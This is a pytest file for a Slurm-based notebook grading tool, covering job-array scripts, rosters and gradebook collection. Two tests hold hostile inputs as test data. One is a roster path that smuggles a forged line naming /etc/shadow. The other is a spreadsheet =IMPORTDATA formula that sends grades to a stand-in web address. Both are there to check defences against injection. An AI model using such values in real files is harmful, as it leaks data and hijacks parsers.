"""Grading a cohort on Slurm: the job-array script, the gradebook, and a live single-node cluster.

The live test starts its own Slurm (munged, slurmctld and slurmd on 127.0.0.1, private ports and
state folder) and stops what it started. It needs Debian's slurm-wlm and munge and root; without
them it skips (under CI, where .ci/run installs them, it must run).
"""
import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from course_lib import grade_options, grade_out, gradebook, sandbox


def _required() -> bool:
    """CI (.ci/run) sets COURSE_REQUIRE_SANDBOX: there a missing sandbox or Slurm is a failure."""
    return bool(os.environ.get("COURSE_REQUIRE_SANDBOX") or os.environ.get("CI"))
from course_lib.grade_report import ERROR, FAIL, PASS, Report

SLURM_CONF = """ClusterName=gradetest
SlurmctldHost={host}(127.0.0.1)
SlurmctldPort=16917
SlurmdPort=16918
SlurmUser=root
AuthType=auth/munge
ProctrackType=proctrack/linuxproc
TaskPlugin=task/none
SelectType=select/cons_tres
SelectTypeParameters=CR_CPU
StateSaveLocation={dir}/state
SlurmdSpoolDir={dir}/spool
SlurmctldPidFile={dir}/slurmctld.pid
SlurmdPidFile={dir}/slurmd.pid
SlurmctldLogFile={dir}/slurmctld.log
SlurmdLogFile={dir}/slurmd.log
JobAcctGatherType=jobacct_gather/none
AccountingStorageType=accounting_storage/none
MpiDefault=none
ReturnToService=2
NodeName={host} NodeAddr=127.0.0.1 CPUs={cpus} RealMemory={mem_mb} State=UNKNOWN
PartitionName=grade Nodes=ALL Default=YES MaxTime=INFINITE State=UP
"""


def _notebook(path, source):
    nb = new_notebook(cells=[new_code_cell(source)])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, path)


# --- without a cluster ---------------------------------------------------------------------------

def test_sbatch_script_is_one_task_per_submission(tmp_path):
    script = gradebook.sbatch_script(tmp_path / "roster.txt", tmp_path / "out", 7,
                                     ["--profile", "test"], cpus=4, mem_gib=6, parallel=3,
                                     hide=[tmp_path / "subs"])
    assert "#SBATCH --array=0-6%3" in script and "#SBATCH --cpus-per-task=4" in script
    assert "#SBATCH --mem=6G" in script and "--profile test" in script
    assert f"--memory-gib {6 - gradebook.TASK_OVERHEAD_GIB} " in script   # the notebook's share
    assert f"--hide {tmp_path / 'subs'}" in script and "SLURM_ARRAY_TASK_ID" in script
    assert "-m course_lib.grade \"$copy\"" in script


def test_each_task_reads_its_student_copy_and_origin_from_the_roster(tmp_path):
    """The task's report names the submitted file's path (a regrade of that file finds it,
    grade_out.earlier_name); a path that a tab or a new line would split into a forged roster line
    is replaced by the student's name. The script's own bash reads the roster here."""
    copies = [(name, tmp_path / "copies" / f"{name}.ipynb") for name in ("alice", "bob")]
    roster = tmp_path / "roster.txt"
    roster.write_text(gradebook.roster_text(copies, {"alice": "/subs/Alice Smith.ipynb",
                                                     "bob": "/subs/b\nmallory\t/etc/shadow\t.ipynb"}))
    assert len(roster.read_text().splitlines()) == 2
    fake = tmp_path / "python"   # stands in for the grader: prints the arguments it is given
    fake.write_text("#!/bin/sh\nprintf '%s\\n' \"$@\"\n")
    fake.chmod(0o755)
    script = gradebook.sbatch_script(roster, tmp_path / "out", 2, [], python=str(fake))
    for task, origin in enumerate(("/subs/Alice Smith.ipynb", "bob")):
        proc = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60,
                              env=dict(os.environ, SLURM_ARRAY_TASK_ID=str(task)))
        student, copy = copies[task]
        assert proc.stdout.splitlines()[:5] == ["-m", "course_lib.grade", str(copy),
                                                f"--name={student}", f"--origin={origin}"], proc


def test_slurm_dry_run_snapshots_and_writes_the_roster(tmp_path, capsys):
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    for name in ("alice", "bob"):
        _notebook(subs / f"{name}.ipynb", "x = 1")
    out.mkdir()     # an earlier cohort's grades in the same folder: a dry run must keep them
    (out / "alice.json").write_text('{"student": "alice"}')
    (out / "roster.txt").write_text("alice\t/x\n")
    assert gradebook.main(["slurm", str(subs), "--out", str(out), "--dry-run",
                           "--profile", "test"]) == 0
    assert (out / "alice.json").read_text() == '{"student": "alice"}'
    assert (out / "roster.txt").read_text() == "alice\t/x\n"
    job = next(out.glob(".slurm-*"))
    roster = (job / "roster.txt").read_text().splitlines()
    assert [r.split("\t")[0] for r in roster] == ["alice", "bob"]
    for line in roster:  # private copies, not the originals
        copy = Path(line.split("\t")[1])
        assert copy.is_file() and subs not in copy.parents
    script = (job / "grade.sbatch").read_text()
    assert "--array=0-1" in script and "--profile test" in script
    assert str(job / "roster.txt") in script
    assert "--private-judge" in script          # the cohort's private judges, chosen here
    # the dry run says what only a real submission does, and that the judges are missing
    missing = tmp_path / "judges" / "none.pt"
    capsys.readouterr()
    assert gradebook.main(["slurm", str(subs), "--out", str(out), "--dry-run",
                           "--private-judge", str(missing)]) == 0
    said = capsys.readouterr().out
    assert "without --dry-run" in said and "roster.txt" in said, said
    assert f"{missing} is not there yet" in said and "none of that happens" in said, said


def test_slurm_without_sbatch_changes_nothing(tmp_path, monkeypatch, capsys):
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    _notebook(subs / "alice.ipynb", "x = 1")
    out.mkdir()
    (out / "alice.json").write_text('{"student": "alice"}')
    monkeypatch.setattr(gradebook.shutil, "which", lambda name: None)
    monkeypatch.setattr(gradebook, "ensure_private_judge", lambda *a: pytest.fail("trained judges"))
    assert gradebook.main(["slurm", str(subs), "--out", str(out), "--profile", "test"]) == 2
    assert "sbatch not found" in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir()) == ["alice.json"]


def test_slurm_sets_old_reports_aside_and_restores_them_when_sbatch_refuses(tmp_path, monkeypatch):
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    for name in ("alice", "bob"):
        _notebook(subs / f"{name}.ipynb", "x = 1")
    (subs / "dave.ipynb").symlink_to(subs / "bob.ipynb")          # unreadable: no task, a report
    out.mkdir()
    (out / "alice.json").write_text('{"student": "alice"}')
    (out / "alice_samples.png").write_bytes(b"old grid")
    (out / "carol.json").write_text('{"student": "carol"}')      # not in this cohort: untouched
    (out / "roster.txt").write_text("alice\t/x\ncarol\t/z\n")
    (out / "logs").mkdir()
    (out / "logs" / "task-0.log").write_text("alice's earlier task")   # task 0 is another's now
    monkeypatch.setattr(gradebook.shutil, "which", lambda name: "/usr/bin/sbatch")
    seen = {}

    def sbatch(cmd, returncode, job_id, **kwargs):
        seen["files"] = sorted(p.name for p in out.iterdir() if p.is_file()
                               and p.name != grade_out.OUT_LOCK)
        seen["aside"] = sorted(str(p.relative_to(out)) for p in (out / "previous").rglob("*")
                               if p.is_file())
        seen["tasks"] = [ln.split("\t")[0] for ln in
                         (Path(cmd[-1]).parent / "roster.txt").read_text().splitlines()]
        return subprocess.CompletedProcess(cmd, returncode, job_id, "no partition")

    judge = ["--private-judge", str(tmp_path / "j.pt")]
    trained = []    # the judges named are trained once, here, before any task (not in each task)
    monkeypatch.setattr(gradebook, "ensure_private_judge", lambda path=None: trained.append(path))
    for wait in ([], ["--wait"]):       # no job id: nothing was submitted, waiting or not
        monkeypatch.setattr(gradebook.subprocess, "run", lambda cmd, **kw: sbatch(cmd, 1, ""))
        assert gradebook.main(["slurm", str(subs), "--out", str(out), *judge, *wait]) == 2
        assert seen["files"] == ["carol.json", "dave.json", "roster.txt"]   # alice's set aside
        assert [Path(p).name for p in seen["aside"]] == ["alice.json", "alice_samples.png",
                                                         "task-0.log", "roster.txt"]
        assert seen["tasks"] == ["alice", "bob"]                   # dave's link: no task
        kept = sorted(p.name for p in out.iterdir() if p.is_file() and p.name != grade_out.OUT_LOCK)
        assert kept == ["alice.json", "alice_samples.png", "carol.json", "roster.txt"]   # put back
        assert (out / "roster.txt").read_text() == "alice\t/x\ncarol\t/z\n"
        assert (out / "logs" / "task-0.log").read_text() == "alice's earlier task"
    monkeypatch.setattr(gradebook.subprocess, "run", lambda cmd, **kw: sbatch(cmd, 0, "42"))
    assert gradebook.main(["slurm", str(subs), "--out", str(out), *judge]) == 0
    assert (out / grade_out.SLURM_JOB).read_text() == "42\n"   # no other grading there as it runs
    assert not (out / "alice.json").exists() and (out / "carol.json").is_file()
    kept = list((out / "previous").rglob("alice.json"))
    assert len(kept) == 1 and kept[0].read_text() == '{"student": "alice"}'
    assert (kept[0].parent / "logs" / "task-0.log").is_file() and not any((out / "logs").iterdir())
    assert [ln.split("\t")[0] for ln in (out / "roster.txt").read_text().splitlines()] == [
        "alice", "bob", "dave"]
    dave = json.loads((out / "dave.json").read_text())
    assert dave["status"] == ERROR and "is a link" in dave["reason"]
    assert trained == [tmp_path / "j.pt"] * 3



def test_wait_asks_squeue_until_the_array_ends_then_collects(tmp_path, monkeypatch, capsys):
    out = tmp_path / "out"
    out.mkdir()
    states = iter(["running", "unknown", "unknown", "running", "ended"])   # unknown: ask again
    monkeypatch.setattr(gradebook, "array_state", lambda out: (next(states), "42"))
    monkeypatch.setattr(gradebook, "collect", lambda out: 7)
    assert gradebook.wait_for_array(out, "42", every=0) == 7
    assert next(states, None) is None   # asked until it ended, not once more
    assert capsys.readouterr().err.count("squeue cannot say whether job 42") == 1   # said once

    def interrupted(out):
        raise KeyboardInterrupt
    monkeypatch.setattr(gradebook, "array_state", interrupted)
    assert gradebook.wait_for_array(out, "42", every=0) == 130
    assert "Slurm job 42 goes on" in capsys.readouterr().err

@pytest.mark.parametrize("form", [["--private-judge", "{p}"], ["--private-judge={p}"],
                                  ["--private-j", "{p}"]])
def test_slurm_keeps_the_instructors_private_judge_in_any_spelling(tmp_path, form):
    """argparse keeps the last --private-judge: a default appended after the instructor's own
    (given as "--private-judge=PATH", or abbreviated as the grader's parser allows) would
    silently replace it."""
    subs = tmp_path / "subs"
    subs.mkdir()
    _notebook(subs / "alice.ipynb", "x = 1")
    mine = tmp_path / "my_judges.pt"
    args = [a.format(p=mine) for a in form]
    assert gradebook.main(["slurm", str(subs), "--out", str(tmp_path / "out"), "--dry-run",
                           "--profile", "test", *args]) == 0
    script = next((tmp_path / "out").glob(".slurm-*/grade.sbatch")).read_text()
    assert str(mine) in script and script.count("--private-j") == 1, script


@pytest.mark.parametrize("wrong,said", [(["--threshhold", "0.9"], "unrecognized arguments: --threshhold"),
                                        (["--threshold", "high"], "invalid float value: 'high'"),
                                        (["--profile", "fast"], "invalid choice: 'fast'"),
                                        (["--threshold", "2"], "--threshold in (0, 1]")])
def test_slurm_reads_the_graders_options_before_anything_is_copied(tmp_path, capsys, wrong, said):
    """Each task's grader would refuse the option: a typo fails once, here, not in every task."""
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    _notebook(subs / "alice.ipynb", "x = 1")
    assert gradebook.main(["slurm", str(subs), "--out", str(out), "--dry-run", *wrong]) == 2
    err = capsys.readouterr().err
    assert said in err and "course_lib.grade --help" in err and "\n" not in err.strip(), err
    assert not out.exists()


def test_collect_merges_reports_into_a_gradebook(tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    reports = [Report("a.ipynb", PASS, student="alice", accuracy=0.99),
               Report("b.ipynb", FAIL, student="bob", accuracy=0.5, reason="accuracy 50.0% is below 95%")]
    from dataclasses import asdict
    for r in reports:
        (out / f"{r.student}.json").write_text(json.dumps(asdict(r)))
    (out / "roster.txt").write_text("alice\t/x\nbob\t/y\ncarol\t/z\n")
    (out / "cohort.json").write_text(json.dumps([asdict(r) for r in reports]))  # a --json list
    (out / "notes.json").mkdir()                                     # no report: left out, said
    assert gradebook.collect(out) == 2  # carol's task left no report: could not grade
    rows = list(csv.DictReader((out / "gradebook.csv").open()))
    assert [(r["student"], r["status"], r["accuracy"]) for r in rows] == [
        ("alice", PASS, "0.9900"), ("bob", FAIL, "0.5000"), ("carol", ERROR, "")]
    assert str(out / "logs" / "task-2.log") in rows[2]["reason"]   # roster line 3: task 2
    said = capsys.readouterr()
    printed = said.out
    assert "3 submissions: 1 pass, 1 fail, 1 could not grade" in printed
    assert f"note: {out / 'notes.json'} left out" in said.err
    page = (out / "review.html").read_text()   # reports without code, and carol's none: listed
    assert all(f"<h2>{s}:" in page for s in ("alice", "bob", "carol"))
    assert page.count("No code kept") == 3


def test_collect_of_a_folder_that_is_not_there_says_so(tmp_path, capsys):
    assert gradebook.main(["collect", str(tmp_path / "grdes")]) == 2
    err = capsys.readouterr().err
    assert f"{tmp_path / 'grdes'} is not a folder" in err and "--out" in err, err


def test_task_time_and_memory_follow_the_graders_limits(tmp_path, capsys):
    """A task killed by Slurm leaves no report: its limits must cover the grader's own, the
    notebook's memory and what the task spends besides (/tmp, /dev/shm, the grader)."""
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    _notebook(subs / "alice.ipynb", "x = 1")
    options = gradebook.grader_options(["--timeout", "1800"])
    needed = gradebook.task_minutes(options)
    assert needed * 60 >= grade_options.worst_case_seconds(1800, grade_options.SAMPLE_TIMEOUT) + 300
    assert gradebook.main(["slurm", str(subs), "--out", str(out), "--dry-run", "--timeout",
                           "1800"]) == 0
    script = next(out.glob(".slurm-*/grade.sbatch")).read_text()
    assert f"#SBATCH --time={needed}\n" in script and "#SBATCH --mem=12G\n" in script, script
    assert f"--memory-gib {12 - gradebook.TASK_OVERHEAD_GIB} " in script   # the local default's 8
    for wrong, said in ((["--minutes", str(needed - 1)], f"at least {needed}"),
                        (["--mem-gib", str(TASK_MEM_GIB - 1)], f"at least {TASK_MEM_GIB}"),
                        (["--cpus", "0"], "--cpus must be >= 1"),
                        (["--mem-gib", "8", "--memory-gib", "6"], "raise --mem-gib to 10")):
        assert gradebook.main(["slurm", str(subs), "--out", str(tmp_path / "o2"), "--dry-run",
                               "--timeout", "1800", *wrong]) == 2
        err = capsys.readouterr().err
        assert said in err and "nothing was copied" in err, err
    assert not (tmp_path / "o2").exists()


def test_collect_says_whose_folder_it_cannot_write(tmp_path, monkeypatch, capsys):
    """Graded as root, OUT is root's: collect without sudo gets one line, not a traceback."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "alice.json").write_text(json.dumps({"submission": "a", "status": PASS,
                                                "student": "alice"}))

    def refuse(reports, path):
        raise PermissionError(13, "Permission denied", str(path))
    monkeypatch.setattr(gradebook, "write_gradebook", refuse)
    assert gradebook.collect(out) == 2
    err = capsys.readouterr().err
    assert "Permission denied" in err and "sudo" in err and "Traceback" not in err


def test_gradebook_cells_are_safe_to_open_in_a_spreadsheet(tmp_path, capsys):
    """A reason the notebook wrote (its GRADER: message) must not become a formula that could
    send the cohort's grades to a web address, nor carry terminal escapes into the summary."""
    evil = '=IMPORTDATA("https://example.invalid/?"&TEXTJOIN(",",1,A2:D300))'
    reports = [Report("a.ipynb", FAIL, student="-alice", reason=evil),
               Report("b.ipynb", FAIL, student="bob", reason="@SUM(1)\x1b[2K\rPASS"),
               Report("c.ipynb", PASS, student="carol", accuracy=0.97, reason="")]
    rows = list(csv.reader(gradebook.write_gradebook(reports, tmp_path / "g.csv").open()))
    cells = [c for row in rows[1:] for c in (row[0], row[3])]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert rows[1][0] == "'-alice" and rows[1][3] == "'" + evil
    summary = gradebook.summary(reports)
    assert "\x1b" not in summary and "\r" not in summary


# --- a live single-node Slurm ----------------------------------------------------------------------

def _need(condition, why):
    if condition:
        return
    if _required():
        pytest.fail(f"CI must run the Slurm test: {why}")
    pytest.skip(why)


TASK_MEM_GIB = grade_options.MIN_MEMORY_GIB + gradebook.TASK_OVERHEAD_GIB   # a task's least


@pytest.fixture(scope="module")
def slurm(tmp_path_factory):
    _need(all(shutil.which(b) for b in ("slurmctld", "slurmd", "munged", "sbatch")),
          "Slurm is not installed (enable with: sudo apt-get install slurm-wlm munge)")
    _need(os.geteuid() == 0, "the live Slurm test starts daemons: run it as root (CI does)")
    _need(sandbox.bwrap_path() is not None, "bubblewrap is not installed: sudo apt-get install bubblewrap")
    folder = tmp_path_factory.mktemp("slurm")
    for sub in ("state", "spool"):
        (folder / sub).mkdir()
    conf = folder / "slurm.conf"
    host = subprocess.run(["hostname", "-s"], capture_output=True, text=True).stdout.strip()
    mem_mb = int(os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") * 0.9) // 2**20
    _need(mem_mb >= TASK_MEM_GIB * 1024, f"a task takes {TASK_MEM_GIB} GiB (a notebook's 2 and the "
          "grader's own): this machine has too little memory for the live Slurm test")
    conf.write_text(SLURM_CONF.format(host=host, dir=folder, cpus=os.cpu_count() or 1, mem_mb=mem_mb))
    started = []
    if subprocess.run(["pgrep", "-x", "munged"], capture_output=True).returncode != 0:
        Path("/run/munge").mkdir(parents=True, exist_ok=True)
        shutil.chown("/run/munge", "munge", "munge")
        subprocess.run(["su", "-s", "/bin/sh", "munge", "-c", "munged"], check=True)
        started.append(Path("/run/munge/munged.pid"))
    env = dict(os.environ, SLURM_CONF=str(conf))
    subprocess.run(["slurmctld", "-f", str(conf)], check=True, env=env)
    started.append(folder / "slurmctld.pid")
    subprocess.run(["slurmd", "-f", str(conf)], check=True, env=env)
    started.append(folder / "slurmd.pid")
    for _ in range(30):
        info = subprocess.run(["sinfo", "-h", "-o", "%t"], capture_output=True, text=True, env=env)
        if info.stdout.strip() in ("idle", "mix", "alloc"):
            break
        time.sleep(1)
    else:
        pytest.fail(f"the test cluster did not come up: {info.stdout} {info.stderr} "
                    f"{(folder / 'slurmctld.log').read_text()[-2000:]}")
    yield env
    for pidfile in reversed(started):
        try:
            os.kill(int(pidfile.read_text().strip()), signal.SIGTERM)
        except (OSError, ValueError):
            pass


@pytest.mark.usefixtures("mnist_available")
def test_job_array_grades_each_submission_and_collect_builds_the_gradebook(slurm, tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    _notebook(subs / "alice.ipynb", "import torch\ndef sample_digits(labels):\n"
                                    "    return torch.zeros(len(labels), 1, 28, 28)")
    _notebook(subs / "bob.ipynb", "raise ValueError('bob forgot something')")
    _notebook(subs / "carol.ipynb", "x = FIXME")
    proc = subprocess.run([sys.executable, "-m", "course_lib.grade", "slurm", str(subs), "--out",
                           str(out), "--wait", "--cpus", "1", "--mem-gib", str(TASK_MEM_GIB), "--timeout", "300",
                           "--samples-per-digit", "1", "--profile", "test"],
                          capture_output=True, text=True, timeout=900, env=slurm)
    logs = "".join(p.read_text() for p in (out / "logs").glob("*.log"))
    assert proc.returncode == 1, proc.stdout + proc.stderr + logs
    rows = {r["student"]: r for r in csv.DictReader((out / "gradebook.csv").open())}
    assert set(rows) == {"alice", "bob", "carol"}, proc.stdout + logs
    assert rows["alice"]["status"] == FAIL and "constant" in rows["alice"]["reason"]
    assert rows["bob"]["status"] == FAIL and "bob forgot something" in rows["bob"]["reason"]
    assert rows["carol"]["status"] == FAIL and "FIXME" in rows["carol"]["reason"]
    assert "3 submissions: 0 pass, 3 fail, 0 could not grade" in proc.stdout
    assert "sandbox:    bubblewrap" in logs
    page = (out / "review.html").read_text()   # drawn from the tasks' reports, which keep the code
    bob = page[page.index("<h2>bob:"):]
    bob = bob[:bob.index("</section>")]
    assert "bob forgot something" in bob and "new cell" in bob


def test_slurm_that_cannot_train_its_judges_stops_before_copying_anything(tmp_path, monkeypatch, capsys):
    from course_lib.grade_checks import CannotGrade
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    _notebook(subs / "alice.ipynb", "x = 1")
    monkeypatch.setattr(gradebook.shutil, "which", lambda name: "/usr/bin/sbatch")

    def no_mnist(path=None):
        raise CannotGrade("MNIST is needed to judge the samples")
    monkeypatch.setattr(gradebook, "ensure_private_judge", no_mnist)
    assert gradebook.main(["slurm", str(subs), "--out", str(out)]) == 2
    assert "could not grade: MNIST is needed" in capsys.readouterr().err
    assert not out.exists()
